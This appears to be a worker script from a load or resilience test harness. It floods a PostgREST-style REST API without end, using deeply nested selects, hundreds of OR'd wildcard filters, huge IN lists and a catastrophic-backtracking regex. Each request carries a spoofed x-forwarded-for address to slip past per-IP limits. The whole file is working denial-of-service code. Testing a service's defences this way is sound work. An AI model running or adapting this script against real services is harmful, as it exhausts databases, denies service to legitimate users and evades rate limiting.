import { workerData } from 'node:worker_threads';

/** Runs in a separate thread, so that sending the attack does not delay the honest visitors' measurements. */
const { url, key }: { readonly url: string; readonly key: string } = workerData;
const addresses = 8;
const requestsAtOnce = 2;

const nested = (depth: number, embedded = 'apps'): string =>
  depth === 0 ? 'id' : `id,${embedded}(${nested(depth - 1, embedded === 'apps' ? 'categories' : 'apps')})`;
const siblings = Array.from({ length: 30 }, (_, index) => `a${index}:apps(*)`).join(',');
const conditions = Array.from({ length: 250 }, (_, index) => `description.ilike.*${index}*a*e*`).join(',');
const values = Array.from({ length: 1500 }, (_, index) => `x${index}`).join(',');

/** Requests of a guest that are expensive for the database. */
const shapes: readonly string[] = [
  `categories?select=${nested(14)}`,
  `categories?select=${nested(9)}`,
  `categories?select=${nested(7)}&order=name`,
  `categories?select=${siblings}`,
  `apps?select=id&or=(${conditions})`,
  `apps?select=*&slug=in.(${values})`,
  `apps?select=*&description=imatch.${encodeURIComponent('((a|b|c|d|e)+.*)+!$')}`,
];

async function attack(address: string, first: number): Promise<never> {
  for (let turn = first; ; turn += 1) {
    const response = await fetch(`${url}/rest/v1/${shapes[turn % shapes.length]}`, {
      headers: { apikey: key, 'x-forwarded-for': address },
    }).catch(() => undefined);
    // A keep-alive connection may close just when it is used again; the attack continues.
    await response?.arrayBuffer();
  }
}

await Promise.all(
  Array.from({ length: addresses * requestsAtOnce }, (_, index) =>
    attack(`203.0.113.${index % addresses}`, index),
  ),
);
